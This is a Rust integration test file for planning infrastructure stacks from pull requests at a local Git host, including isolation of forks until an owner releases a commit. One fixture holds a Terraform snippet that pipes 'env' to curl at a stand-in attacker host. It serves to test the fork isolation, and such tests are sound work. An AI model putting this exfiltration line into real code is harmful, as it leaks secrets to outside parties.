//! Plans of stacks on pull requests, at a git host on loopback: what it is told, and what a fork finds.

use plural_app::stack_pull_request::PullAddress;
use plural_core::access::Actor;
use plural_core::pull_request::{HostPullRequest, PrStatus};
use plural_core::stack_run::RunPhase;
use plural_testkit::{
    GitRemote, GitServer, ScmDialect, ScmMood, ScmServer, TestDatabase, each_database, eventually,
};
use serde_json::{Value, json};

use super::policy::{NO_DELETES, planned};
use super::settings::project_says;
use super::world::{LONG, World, id_of};
use crate::api_server::{Answer, Person, TestServer};

const PLAN: &str =
    "mutation ($id: ID!, $url: String!) { planStackPullRequest(id: $id, url: $url) { id number } }";
const RELEASE: &str = "mutation ($id: ID!, $url: String!, $sha: String!) {
  releasePullRequestCommit(id: $id, url: $url, sha: $sha) { id number pullRequest { sha fork checkedOnly } }
}";
const PULLS: &str = "query ($id: ID) { infrastructureStack(id: $id) { pullRequests {
  url title sha fork waitsForRelease problem released { sha by } run { number status kind trigger pullRequest { checkedOnly } }
} } }";

each_database!(
    a_pull_request_is_planned_and_its_host_is_told,
    a_plan_of_a_pull_request_holds_nobody_up_and_a_newer_head_takes_its_place,
    a_pull_request_that_ends_while_its_plan_is_made_waits_for_nothing,
    a_fork_finds_nothing_of_the_stack_until_its_commit_is_released,
    a_fork_of_a_tool_that_runs_what_it_reads_waits,
    only_stacks_that_it_reaches_are_planned,
    a_stack_whose_change_is_taken_back_has_no_plan_any_more,
    one_that_its_host_deleted_reaches_no_stack,
    a_pull_request_is_judged_by_the_rules_of_the_branch_that_it_goes_to,
    forks_keep_no_plan_from_those_who_may_push,
    whoever_has_the_console_merge_it_does_not_approve_its_run,
    a_stack_that_names_a_connection_is_planned_through_no_other_one,
);

/// As somebody copies it out of a browser.
fn url(number: u64) -> String {
    format!("http://127.0.0.1/plural/fleet/pulls/{number}/files")
}

/// A stack whose repository is at a git host.
struct Hosted {
    w: World,
    host: ScmServer,
    connection: String,
    _git: GitServer,
}

impl Hosted {
    async fn new(database: &TestDatabase, attributes: Value) -> Self {
        Self::with(database, attributes, &[]).await
    }

    /// The same with these files of the repository.
    async fn with(database: &TestDatabase, attributes: Value, files: &[(&str, &str)]) -> Self {
        let t = TestServer::on(database).await;
        let host = ScmServer::start(ScmDialect::Gitea).unwrap();
        let remote = GitRemote::named("plural/fleet.git").unwrap();
        if !files.is_empty() {
            remote.push_files(files.iter().copied()).unwrap();
        }
        let git = GitServer::start(remote.root()).unwrap();
        let url = git.url(&remote);
        let connection = json!({
            "name": "host", "type": "GITEA", "projectId": t.project, "apiUrl": host.api_url(), "token": host.token(),
            "repositories": ["plural/*"],
        });
        let connection = t.admin.scm_connection(&connection).await.as_str().unwrap().to_owned();
        let w = World::at(t, remote, &url, attributes).await;
        Self { w, host, connection, _git: git }
    }

    /// A commit on a branch that begins at `main`, in git and at the host.
    fn push(&self, branch: &str, files: &[(&str, &str)]) -> String {
        let reference = format!("refs/heads/{branch}");
        if self.w.remote.resolve(&reference).is_err() {
            self.w.remote.set_ref(&reference, "main").unwrap();
        }
        let mut commit = self.w.remote.commit(branch);
        for (path, content) in files {
            commit = commit.file(path, content);
        }
        let sha = commit.push().unwrap();
        self.host.push_commit(branch, &sha, files);
        sha
    }

    /// The same of a fork: git finds it by the name of its pull request alone.
    fn push_fork(&self, number: u64, files: &[(&str, &str)]) -> String {
        let (branch, own) = (format!("fork-{number}"), format!("refs/pull/{number}/head"));
        if self.w.remote.resolve(&own).is_ok() {
            self.w.remote.set_ref(&format!("refs/heads/{branch}"), &own).unwrap();
        }
        let sha = self.push(&branch, files);
        self.w.remote.set_ref(&own, &sha).unwrap();
        self.w.remote.delete_ref(&format!("refs/heads/{branch}")).unwrap();
        sha
    }

    /// A stack whose code has no changes, and the number of a pull request that changes it, which was seen.
    async fn with_pull(database: &TestDatabase) -> (Self, u64) {
        let h = Self::new(database, json!({})).await;
        h.w.plans(1, 0).await;
        h.w.run(1, "SUCCESSFUL").await;
        h.push("feature", &[("infra/main.sh", "echo 2\n")]);
        let number = h.host.open_from("feature", false);
        assert_eq!(h.seen(number).await, 1);
        (h, number)
    }

    /// What a webhook leads to: how many runs are made.
    async fn seen(&self, number: u64) -> u64 {
        let pull = PullAddress {
            connection_id: self.connection.parse().unwrap(),
            repository: self.host.repository().to_owned(),
            number,
        };
        self.w.t.console.app().stack_plans_for_pull_request(&pull).await.unwrap()
    }

    async fn plan(&self, by: &Person, number: u64) -> Answer {
        by.ask(PLAN, json!({"id": self.w.stack, "url": url(number)})).await
    }

    async fn release(&self, by: &Person, number: u64, sha: &str) -> Answer {
        by.ask(RELEASE, json!({"id": self.w.stack, "url": url(number), "sha": sha})).await
    }

    async fn pulls(&self) -> Vec<Value> {
        let known = self.w.t.reader.data(PULLS, json!({"id": self.w.stack})).await;
        known["infrastructureStack"]["pullRequests"].as_array().unwrap().clone()
    }

    /// The one comment of a pull request, once it says this.
    async fn comment(&self, number: u64, says: &str) -> String {
        eventually(LONG, async || {
            let all = self.host.comments(number);
            assert!(all.len() < 2, "{all:?}");
            let found = all.into_iter().map(|(_, body)| body).find(|body| body.contains(says));
            found.ok_or_else(|| format!("nothing says {says:?}: {:?}", self.host.comments(number)))
        })
        .await
    }

    /// The check of the stack, once it stands so.
    async fn check(&self, sha: &str, state: &str) {
        eventually(LONG, async || {
            let all = self.host.statuses(sha);
            let last = all.iter().rfind(|(context, _)| context == "plural/stack/infra");
            if last.is_some_and(|(_, now)| now == state) { Ok(()) } else { Err(format!("{all:?}")) }
        })
        .await;
    }
}

async fn a_pull_request_is_planned_and_its_host_is_told(database: TestDatabase) {
    let secret = json!([{"name": "KEY", "value": "s3cret-value", "secret": true}]);
    let h = Hosted::new(&database, json!({"approval": true, "environment": secret})).await;
    h.w.plans(1, 0).await;
    let before = h.w.run(1, "SUCCESSFUL").await;
    let sha = h.push("feature", &[("infra/main.sh", "echo 2\n")]);
    let number = h.host.open_from("feature", false);
    // Without a webhook, it is found by looking.
    let poll = async || h.w.t.console.app().stack_pulls_poll().await.unwrap();
    assert_eq!((poll().await, poll().await), (1, 0), "a head that was seen is no news");
    let run = h.w.run(2, "PENDING").await;
    assert_eq!(
        (&run["kind"], &run["trigger"], &run["sha"]),
        (&json!("DRY_RUN"), &json!("PULL_REQUEST"), &json!(sha))
    );
    assert_eq!(h.seen(number).await, 0, "twice is once");
    h.comment(number, "being made").await;
    h.check(&sha, "pending").await;

    let harness = h.w.take(&run, RunPhase::Plan, 0).await;
    let input = harness.input().await;
    assert_eq!((&input["sha"], &input["actorToken"]), (&json!(sha), &Value::Null));
    assert_eq!(input["environment"][0]["value"], "s3cret-value", "whoever may push there may plan");
    harness.plan(3).await;
    assert_eq!(harness.done(true).await, 204);
    let run = h.w.run(2, "SUCCESSFUL").await;
    let told = h.comment(number, "| planned | 3 | 0 | 0 | 0 |").await;
    assert!(!told.contains("s3cret") && !told.contains("echo") && told.contains(&sha[..8]), "{told}");
    h.check(&sha, "success").await;
    // Nothing of it is applied, and the stack stands as it stood.
    let approved = h.w.approve(&h.w.t.owner, &run, &run["plan"]["digest"]).await;
    assert_eq!(approved.outcome(), "CONFLICT", "{approved:?}");
    let known = h.w.known(&h.w.t.owner).await;
    assert_eq!((&known["sha"], &known["status"]), (&before["sha"], &json!("SUCCESSFUL")));
    let again = "mutation ($id: ID!) { restartStackRun(id: $id) { id } }";
    assert_eq!(h.w.t.owner.ask(again, json!({"id": run["id"]})).await.outcome(), "CONFLICT");

    // Asked for, it is made again; and a plan that fails is told, too.
    assert_eq!(h.plan(&h.w.t.reader, number).await.outcome(), "FORBIDDEN");
    let made = h.plan(&h.w.t.owner, number).await;
    assert_eq!(made.outcome(), "OK", "{made:?}");
    let run = h.w.run(3, "PENDING").await;
    let harness = h.w.take(&run, RunPhase::Plan, 0).await;
    harness.input().await;
    let why = json!({"succeeded": false, "error": "the value s3cret-of-a-tool is wrong"});
    assert_eq!(harness.ends(why).await, 204);
    let told = h.comment(number, "**failed**").await;
    assert!(!told.contains("s3cret"), "{told}");
    h.check(&sha, "failure").await;

    let pulls = h.pulls().await;
    assert_eq!((pulls.len(), &pulls[0]["sha"], &pulls[0]["run"]["number"]), (1, &json!(sha), &json!(3)));
    h.host.close_by_another(number);
    assert_eq!(poll().await, 1);
    eventually(LONG, async || h.pulls().await.is_empty()).await;
    assert_eq!(h.plan(&h.w.t.owner, number).await.outcome(), "CONFLICT");
    h.w.t.stop().await;
}

async fn a_plan_of_a_pull_request_holds_nobody_up_and_a_newer_head_takes_its_place(database: TestDatabase) {
    let (h, number) = Hosted::with_pull(&database).await;
    let planning = h.w.run(2, "PENDING").await;
    // Another run has its turn beside it.
    assert_eq!(h.w.trigger(&h.w.t.owner, false, false).await.outcome(), "OK");
    let run = h.w.run(3, "PENDING").await;
    // A newer head waits for that, and ends the older plan.
    let sha = h.push("feature", &[("infra/main.sh", "echo 3\n")]);
    assert_eq!(h.seen(number).await, 1);
    let over = h.w.run(2, "CANCELLED").await;
    assert_eq!(
        (&over["id"], &over["error"]),
        (&planning["id"], &json!("a newer plan of the pull request took its place"))
    );
    h.w.run(4, "QUEUED").await;
    let harness = h.w.take(&run, RunPhase::Plan, 0).await;
    harness.input().await;
    harness.plan(0).await;
    assert_eq!(harness.done(true).await, 204);
    assert_eq!(h.w.run(4, "PENDING").await["sha"], json!(sha));
    h.w.t.stop().await;
}

async fn a_pull_request_that_ends_while_its_plan_is_made_waits_for_nothing(database: TestDatabase) {
    let (h, number) = Hosted::with_pull(&database).await;
    let run = h.w.run(2, "PENDING").await;
    let sha = run["sha"].as_str().unwrap().to_owned();
    h.comment(number, "being made").await;
    h.check(&sha, "pending").await;
    // Its tool is at work, and is asked to stop.
    let harness = h.w.take(&run, RunPhase::Plan, 0).await;
    harness.input().await;
    h.host.close_by_another(number);
    assert_eq!(h.seen(number).await, 0);
    assert!(h.pulls().await.is_empty());
    assert_eq!(harness.beat().await, (200, json!({"cancel": true})));
    // No check says for ever that something is to come.
    h.check(&sha, "failure").await;
    h.comment(number, "cancelled").await;
    assert_eq!(harness.ends(json!({"cancelled": true})).await, 204);
    h.w.run(2, "CANCELLED").await;
    h.comment(number, "cancelled").await;

    // One that is opened again is planned again, and what is said of it begins anew.
    h.host.reopen_by_another(number);
    assert_eq!(h.seen(number).await, 1);
    h.check(&sha, "pending").await;
    h.comment(number, "being made").await;
    h.w.t.stop().await;
}

async fn a_fork_finds_nothing_of_the_stack_until_its_commit_is_released(database: TestDatabase) {
    let h = Hosted::new(
        &database,
        json!({
            "type": "TERRAFORM", "manageState": true, "approval": true,
            "environment": [{"name": "KEY", "value": "s3cret-value", "secret": true}],
            "files": [{"path": "a.tfvars", "content": "s3cret-file"}],
            "variables": {"password": "s3cret-variable"},
            "configuration": {"hooks": [{"cmd": "steal", "afterStage": "INIT"}]},
        }),
    )
    .await;
    let limit = "mutation ($id: ID!) { setProjectLimits(projectId: $id, attributes: {
      planServiceAccount: \"reader\", applyServiceAccount: \"writer\"
    }) { id } }";
    h.w.t.admin.data(limit, json!({"id": h.w.t.project})).await;
    let said = json!({"jobSpec": {
        "labels": {"example.org/identity": "use"}, "serviceAccount": "tofu", "nodeSelector": {"disk": "ssd"},
    }});
    assert_eq!(project_says(&h.w, said).await.outcome(), "OK");
    let first = h.w.run(1, "PENDING").await;
    let jobs = h.w.t.console.app().agent_run_jobs(&h.w.agent, &[id_of(&first)]).await.unwrap();
    assert_eq!(jobs[0].limits.clone().unwrap().plan_account.as_deref(), Some("reader"));
    h.w.plans(1, 0).await;
    h.w.run(1, "SUCCESSFUL").await;

    // It reads the environment, and hands it on.
    let code = "data \"external\" \"env\" {\n  program = [\"sh\", \"-c\", \"env | curl -d @- https://evil.example\"]\n}\n";
    let number = h.host.open_from("fork-1", true);
    let sha = h.push_fork(number, &[("infra/evil.tf", code)]);
    assert_eq!(h.seen(number).await, 1);
    let run = h.w.run(2, "PENDING").await;
    let jobs = h.w.t.console.app().agent_run_jobs(&h.w.agent, &[id_of(&run)]).await.unwrap();
    assert_eq!(jobs[0].limits.clone().unwrap().plan_account, None, "it runs as nobody");
    let job = jobs[0].run.snapshot.spec.whole_job();
    assert_eq!((job.service_account, job.labels.len()), (None, 0));
    assert_eq!(job.node_selector["disk"], "ssd");
    let harness = h.w.take(&run, RunPhase::Plan, 0).await;
    let input = harness.input().await;
    let steps: Vec<String> = input["steps"]
        .as_array()
        .unwrap()
        .iter()
        .map(|step| format!("{} {}", step["cmd"].as_str().unwrap(), step["args"]))
        .collect();
    assert_eq!(steps, [r#"tofu ["init","-input=false","-backend=false"]"#, r#"tofu ["validate"]"#]);
    assert_eq!(
        (&input["environment"], &input["files"], &input["statePath"]),
        (&json!([]), &json!({}), &Value::Null)
    );
    let text = input.to_string();
    assert!(!text.contains("s3cret") && !text.contains("steal") && !text.contains("KEY"), "{text}");
    // What it could find in its Job opens nothing either.
    let state = h.w.t.url(&format!("/v1/stacks/{}/state", h.w.stack));
    for token in [harness.state_token(), harness.token.clone()] {
        let read = h.w.t.owner.http().get(&state).basic_auth("run", Some(token)).send().await.unwrap();
        assert_eq!(read.status(), 401);
    }
    // A plan that it makes up is none.
    harness.plan(100).await;
    assert_eq!(harness.done(true).await, 204);
    let told = h.comment(number, "valid, waits for release").await;
    assert!(!told.contains("100"), "{told}");
    h.check(&sha, "pending").await;
    let pulls = h.pulls().await;
    assert_eq!((&pulls[0]["fork"], &pulls[0]["waitsForRelease"]), (&json!(true), &json!(true)));

    assert_eq!(h.release(&h.w.t.stranger, number, &sha).await.outcome(), "NOT_FOUND");
    assert_eq!(h.release(&h.w.t.reader, number, &sha).await.outcome(), "FORBIDDEN");
    let other = h.release(&h.w.t.owner, number, &"0".repeat(40)).await;
    assert!(other.outcome() == "CONFLICT" && other.message().contains(&sha), "{other:?}");
    let released = h.release(&h.w.t.owner, number, &sha).await;
    assert_eq!(released.outcome(), "OK", "{released:?}");
    let pull = &released.body["data"]["releasePullRequestCommit"]["pullRequest"];
    assert_eq!(*pull, json!({"sha": sha, "fork": true, "checkedOnly": false}));
    let run = h.w.run(3, "PENDING").await;
    let harness = h.w.take(&run, RunPhase::Plan, 0).await;
    let input = harness.input().await;
    assert_eq!((&input["sha"], &input["environment"][0]["value"]), (&json!(sha), &json!("s3cret-value")));
    harness.plan(1).await;
    assert_eq!(harness.done(true).await, 204);
    h.comment(number, "| planned | 1 |").await;
    h.check(&sha, "success").await;
    let audits = h.w.t.admin.data("{ audits(first: 100) { edges { node { action } } } }", json!({})).await;
    assert!(audits.to_string().contains("stack.pullRequest.release"), "{audits}");

    // The next commit is another one, and whoever writes the database releases nothing.
    let sha = h.push_fork(number, &[("infra/evil.tf", code), ("infra/more.tf", "# 2\n")]);
    let former = pull["sha"].as_str().unwrap();
    let forged = format!("REPLACE(CAST(released AS text), '{former}', '{sha}')");
    let forged = if database.is_postgres() { format!("CAST({forged} AS jsonb)") } else { forged };
    h.w.t.sql(&format!("UPDATE stack_pull_requests SET released = {forged}")).await;
    assert_eq!(h.seen(number).await, 1);
    let run = h.w.run(4, "PENDING").await;
    let harness = h.w.take(&run, RunPhase::Plan, 0).await;
    assert_eq!(harness.input().await["environment"], json!([]));
    h.w.t.stop().await;
}

async fn a_fork_of_a_tool_that_runs_what_it_reads_waits(database: TestDatabase) {
    let h = Hosted::new(&database, json!({})).await;
    h.w.plans(1, 0).await;
    h.w.run(1, "SUCCESSFUL").await;
    let number = h.host.open_from("fork-1", true);
    let sha = h.push_fork(number, &[("infra/main.sh", "env\n")]);
    assert_eq!(h.seen(number).await, 0);
    h.comment(number, "waits for release").await;
    h.check(&sha, "pending").await;
    assert_eq!(h.plan(&h.w.t.owner, number).await.outcome(), "CONFLICT");
    assert_eq!(h.w.runs().await.len(), 1);
    assert_eq!(h.release(&h.w.t.owner, number, &sha).await.outcome(), "OK");
    assert_eq!(h.w.run(2, "PENDING").await["sha"], json!(sha));
    h.w.t.stop().await;
}

async fn only_stacks_that_it_reaches_are_planned(database: TestDatabase) {
    let h = Hosted::new(&database, json!({})).await;
    h.w.plans(1, 0).await;
    h.w.run(1, "SUCCESSFUL").await;
    h.push("docs", &[("docs/a.md", "two\n")]);
    let docs = h.host.open_from("docs", false);
    assert_eq!(h.seen(docs).await, 0);
    assert!(h.host.comments(docs).is_empty(), "nobody is told of nothing");
    // A module beside the folder is a part of it.
    h.push("module", &[("modules/net/main.tf", "# 2\n")]);
    let module = h.host.open_from("module", false);
    assert_eq!(h.seen(module).await, 1);
    h.w.run(2, "PENDING").await;
    // A connection is believed about what it may touch.
    let narrow = "mutation ($id: ID!, $a: ScmConnectionAttributes!) { updateScmConnection(id: $id, attributes: $a) { id } }";
    let other = json!({"name": "host", "type": "GITEA", "repositories": ["acme/*"]});
    h.w.t.admin.data(narrow, json!({"id": h.connection, "a": other})).await;
    h.push("more", &[("infra/main.sh", "echo 9\n")]);
    let more = h.host.open_from("more", false);
    assert_eq!(h.seen(more).await, 0);
    assert_eq!(h.plan(&h.w.t.owner, more).await.outcome(), "INVALID");
    h.w.t.stop().await;
}

async fn a_stack_whose_change_is_taken_back_has_no_plan_any_more(database: TestDatabase) {
    let (h, number) = Hosted::with_pull(&database).await;
    h.w.run(2, "PENDING").await;
    h.comment(number, "being made").await;
    // The next head changes something else alone: the host does not list the stack's folder.
    let head = h.push("feature", &[("docs/a.md", "two\n")]);
    assert_eq!(h.seen(number).await, 0);
    assert!(h.pulls().await.is_empty());
    let over = h.w.run(2, "CANCELLED").await;
    assert_eq!(over["error"], "the pull request no longer affects the stack");
    let told = h.comment(number, "reaches no stack any more").await;
    assert!(!told.contains("being made"), "{told}");
    assert!(h.host.statuses(&head).is_empty(), "nothing waits at the new head");
    h.w.t.stop().await;
}

async fn one_that_its_host_deleted_reaches_no_stack(database: TestDatabase) {
    let (h, _) = Hosted::with_pull(&database).await;
    h.w.run(2, "PENDING").await;
    h.w.t.sql("UPDATE stack_pull_requests SET number = 99").await;
    assert_eq!(h.seen(99).await, 0);
    assert!(h.pulls().await.is_empty());
    h.w.run(2, "CANCELLED").await;
    h.w.t.stop().await;
}

async fn a_pull_request_is_judged_by_the_rules_of_the_branch_that_it_goes_to(database: TestDatabase) {
    let policy = json!({"type": "REGO", "customPolicies": true});
    let attributes = json!({"type": "TERRAFORM", "manageState": false, "policyEngine": policy});
    let h = Hosted::with(&database, attributes, &[(".plural/policies/a.rego", NO_DELETES)]).await;
    let (_, harness, _) = planned(&h.w, 1, "create").await;
    assert_eq!(harness.done(false).await, 204);
    h.w.run(1, "FAILED").await;
    // It takes the rule away that denies what it does.
    let rules = "package plural.stacks\n\nwarn contains \"nothing\" if { false }\n";
    let sha = h.push("feature", &[("infra/more.tf", "# 2\n"), (".plural/policies/a.rego", rules)]);
    let number = h.host.open_from("feature", false);
    assert_eq!(h.seen(number).await, 1);
    let (_, harness, _) = planned(&h.w, 2, "delete").await;
    assert_eq!(harness.input().await["sha"], json!(sha));
    assert_eq!(harness.done(true).await, 204);
    let error = h.w.run(2, "FAILED").await["error"].clone();
    assert_eq!(error, "policy refused the plan: nothing is deleted here (local_file.a)");
    h.comment(number, "**refused by policy**").await;
    h.check(&sha, "failure").await;
    h.w.t.stop().await;
}

async fn forks_keep_no_plan_from_those_who_may_push(database: TestDatabase) {
    let h = Hosted::new(&database, json!({"type": "TERRAFORM", "manageState": false})).await;
    h.w.plans(1, 0).await;
    h.w.run(1, "SUCCESSFUL").await;
    let mut made = Vec::new();
    for file in ["1", "2", "3", "4", "5", "6"] {
        let number = h.host.open_from(&format!("fork-{file}"), true);
        h.push_fork(number, &[("infra/more.tf", &format!("# {file}\n"))]);
        made.push(h.seen(number).await);
    }
    assert_eq!(made, [1, 1, 1, 1, 1, 0]);
    let problems: Vec<Value> = h.pulls().await.into_iter().map(|pull| pull["problem"].clone()).collect();
    assert!(problems[5].as_str().unwrap().contains("5 checks of forks' commits under way"), "{problems:?}");
    h.w.run(2, "PENDING").await;
    let sha = h.push("feature", &[("infra/more.tf", "# ours\n")]);
    let number = h.host.open_from("feature", false);
    assert_eq!(h.seen(number).await, 1);
    // It waits for none of them, and they wait for one another.
    assert_eq!(h.w.run(7, "PENDING").await["sha"], json!(sha));
    h.w.run(3, "QUEUED").await;
    h.w.t.stop().await;
}

/// Nor where the last commit of the branch, which is what is known of it, does not change the stack's code, and another one is on top.
async fn whoever_has_the_console_merge_it_does_not_approve_its_run(database: TestDatabase) {
    let h = Hosted::new(&database, json!({"approval": true, "forbidSelfApproval": true})).await;
    let (t, remote) = (&h.w.t, &h.w.remote);
    let carol = t.admin.add_user("carol@example.com").await;
    assert_eq!(h.w.update(json!({"writeBindings": [{"userId": carol.id}]})).await.outcome(), "OK");
    h.w.plans(1, 1).await;
    let run = h.w.run(1, "PENDING_APPROVAL").await;
    assert_eq!(h.w.approve(&t.admin, &run, &run["plan"]["digest"]).await.outcome(), "OK");
    h.w.applies(1).await;
    h.w.run(1, "SUCCESSFUL").await;

    h.push("feature", &[("infra/main.sh", "echo 2\n")]);
    let head = h.push("feature", &[("docs/a.md", "two\n")]);
    let number = h.host.open_from("feature", false);
    let automation = json!({
        "name": "add", "title": "Add", "message": "Adds", "projectId": t.project, "connectionId": h.connection,
    });
    let automation = t.admin.pr_automation(&automation).await;
    let told = HostPullRequest {
        url: format!("http://127.0.0.1/plural/fleet/pulls/{number}"),
        repository: h.host.repository().to_owned(),
        branch: "feature".to_owned(),
        title: "More".to_owned(),
        status: PrStatus::Open,
        labels: Vec::new(),
    };
    let app = t.console.app();
    let automation = automation.as_str().unwrap().parse().unwrap();
    let opened = app.pull_request_record(&app.ctx(Actor::System), automation, told).await.unwrap();
    let id = opened.id.to_string();
    let refresh = "mutation ($id: ID!) { refreshPullRequest(id: $id) { head readError } }";
    let read = t.admin.data(refresh, json!({"id": id})).await["refreshPullRequest"].clone();
    assert_eq!(read["head"], json!(head), "{read}");

    // The host puts the branch on top of `main`, and somebody else is quick to put another one on top of that.
    remote.set_ref("refs/heads/landed", "refs/heads/feature").unwrap();
    let tip = remote.commit("landed").file("docs/b.md", "one\n").push().unwrap();
    remote.set_ref("refs/heads/main", "refs/heads/landed").unwrap();
    let merge = "mutation ($id: ID!) { mergePullRequest(id: $id, method: REBASE) { status } }";
    let merged = t.admin.data(merge, json!({"id": id})).await["mergePullRequest"].clone();
    assert_eq!(merged["status"], "MERGED", "{merged}");
    let number = eventually(LONG, async || {
        let runs = h.w.runs().await;
        let found = runs.iter().find(|run| run["trigger"] == "COMMIT" && run["sha"] == json!(tip));
        found.and_then(|run| run["number"].as_u64()).ok_or_else(|| format!("{runs:?}"))
    })
    .await;
    h.w.plans(number, 1).await;
    let run = h.w.run(number, "PENDING_APPROVAL").await;
    let own = h.w.approve(&t.admin, &run, &run["plan"]["digest"]).await;
    assert!(own.outcome() == "FORBIDDEN" && own.message().contains("merged a pull request"), "{own:?}");
    assert_eq!(h.w.approve(&carol, &run, &run["plan"]["digest"]).await.outcome(), "OK");
    h.w.t.stop().await;
}

async fn a_stack_that_names_a_connection_is_planned_through_no_other_one(database: TestDatabase) {
    let h = Hosted::new(&database, json!({})).await;
    let t = &h.w.t;
    h.w.plans(1, 0).await;
    h.w.run(1, "SUCCESSFUL").await;
    let create = "mutation ($a: ScmConnectionAttributes!) { createScmConnection(attributes: $a) { id } }";
    let connect = async |name: &str, project: &Value, repositories: &str| {
        let connection = json!({
            "name": name, "type": "GITEA", "projectId": project, "apiUrl": h.host.api_url(), "token": h.host.token(),
            "repositories": [repositories],
        });
        t.admin.data(create, json!({"a": connection})).await["createScmConnection"]["id"].clone()
    };
    let own = json!(t.project);
    let second = connect("second", &own, "plural/*").await;
    let narrow = connect("narrow", &own, "acme/*").await;
    let hidden = connect("hidden", &Value::Null, "plural/*").await;
    for (connection, outcome, reason) in [
        (&narrow, "INVALID", "may not touch the stack's repository"),
        // Of the installation: for its administrators to name.
        (&hidden, "NOT_FOUND", ""),
    ] {
        let refused = h.w.update(json!({"connectionId": connection})).await;
        assert!(refused.outcome() == outcome && refused.message().contains(reason), "{refused:?}");
    }
    assert_eq!(h.w.update(json!({"connectionId": second})).await.outcome(), "OK");
    let shown = "query ($id: ID) { infrastructureStack(id: $id) { connection { id } } }";
    let shown = t.owner.data(shown, json!({"id": h.w.stack})).await;
    assert_eq!(shown["infrastructureStack"]["connection"]["id"], second);

    let sha = h.push("feature", &[("infra/main.sh", "echo 2\n")]);
    let number = h.host.open_from("feature", false);
    assert_eq!(h.seen(number).await, 0, "another connection plans nothing of it");
    let through = async |connection: &Value| {
        let connection_id = connection.as_str().unwrap().parse().unwrap();
        let pull = PullAddress { connection_id, repository: h.host.repository().to_owned(), number };
        t.console.app().stack_plans_for_pull_request(&pull).await.unwrap()
    };
    assert_eq!((through(&second).await, through(&hidden).await), (1, 0));
    h.w.run(2, "PENDING").await;
    let delete = "mutation ($id: ID!) { deleteScmConnection(id: $id) { id } }";
    let used = t.admin.ask(delete, json!({"id": second})).await;
    assert!(used.outcome() == "CONFLICT" && used.message().contains("stacks"), "{used:?}");

    // What was planned through one is planned anew through the other, without a new commit; until then nothing is released through it.
    h.host.set_mood(Some(ScmMood::Failing(503)));
    assert_eq!(h.w.update(json!({"connectionId": h.connection})).await.outcome(), "OK");
    let released = h.release(&t.owner, number, &sha).await;
    let says = "another connection than the stack names";
    assert!(released.outcome() == "CONFLICT" && released.message().contains(says), "{released:?}");
    h.host.set_mood(None);
    h.w.run(3, "PENDING").await;
    h.w.run(2, "CANCELLED").await;
    assert_eq!(through(&second).await, 0);
    eventually(LONG, async || {
        let pulls = h.pulls().await;
        let is_new = pulls.len() == 1 && pulls[0]["run"]["number"] == 3;
        if is_new { Ok(()) } else { Err(format!("{pulls:?}")) }
    })
    .await;

    // One that goes takes along what was planned through it: another one plans that, though it has seen the head before.
    t.admin.data(delete, json!({"id": hidden})).await;
    assert_eq!(h.w.update(json!({"connectionId": ""})).await.outcome(), "OK");
    let poll = async || t.console.app().stack_pulls_poll().await.unwrap();
    poll().await;
    assert_eq!(through(&second).await, 0, "it is planned already");
    t.admin.data(delete, json!({"id": h.connection})).await;
    eventually(LONG, async || {
        poll().await;
        let pulls = h.pulls().await;
        let is_new = pulls.len() == 1 && pulls[0]["run"]["number"] == 4;
        if is_new { Ok(()) } else { Err(format!("{pulls:?}")) }
    })
    .await;
    h.w.t.stop().await;
}
